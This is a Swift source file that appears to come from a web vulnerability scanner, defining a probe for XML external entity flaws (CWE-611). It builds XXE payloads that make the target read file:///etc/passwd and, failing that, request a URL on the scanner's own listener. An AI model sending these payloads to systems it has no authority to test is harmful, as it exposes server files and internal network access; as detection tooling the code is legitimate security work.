/// A document names a file of the server, and the answer holds it (CWE-611); or it names an address
/// of the scanner's, and that is requested.
struct EntityProbe: Probe {
  static let kind = FindingKind.externalEntity

  func probe(_ point: InputPoint, _ base: Answer, in scan: isolated Scan) async {
    let name = point.name.lowercased()
    let isXML = point.call.mediaType.contains("xml")
    guard isXML || name.contains("xml") || name.contains("soap") || name.contains("svg") else {
      return
    }
    func call(_ url: String) -> Call {
      let text = """
        <?xml version="1.0"?><!DOCTYPE gh [<!ENTITY gh SYSTEM "\(url)">]>\
        <\(point.name)>&gh;</\(point.name)>
        """
      guard isXML else { return point.with(text) }
      var other = point.call
      let content = point.call.content.map { String(decoding: $0, as: UTF8.self) } ?? ""
      let old = ">\(point.current)<"
      other.raw = """
        <?xml version="1.0"?><!DOCTYPE gh [<!ENTITY gh SYSTEM "\(url)">]>\
        \(content.replacing(old, with: ">&gh;<"))
        """
      return other
    }
    let file = call("file:///etc/passwd")
    if let answer = await scan.send(file), Signs.isPasswordFile(answer.text),
      !Signs.isPasswordFile(base.text),
      let missing = await scan.send(call("file:///etc/ghnone")),
      !Signs.isPasswordFile(missing.text)
    {
      return scan.report(
        .externalEntity, point.operation, point.name, "a file of the server is shown",
        [
          FindingStep("the file", file, answer),
          FindingStep("one that is not there", call("file:///etc/ghnone"), missing),
        ])
    }
    guard let listener = scan.listener else { return }
    var steps: [FindingStep] = []
    for _ in 0..<2 {
      let token = scan.marker()
      let probe = call(listener.url(token))
      guard let answer = await scan.send(probe), await listener.wasCalled(token) else { return }
      steps.append(FindingStep("the address of an entity is requested", probe, answer))
    }
    scan.report(
      .externalEntity, point.operation, point.name, "an entity's address is requested", steps)
  }
}
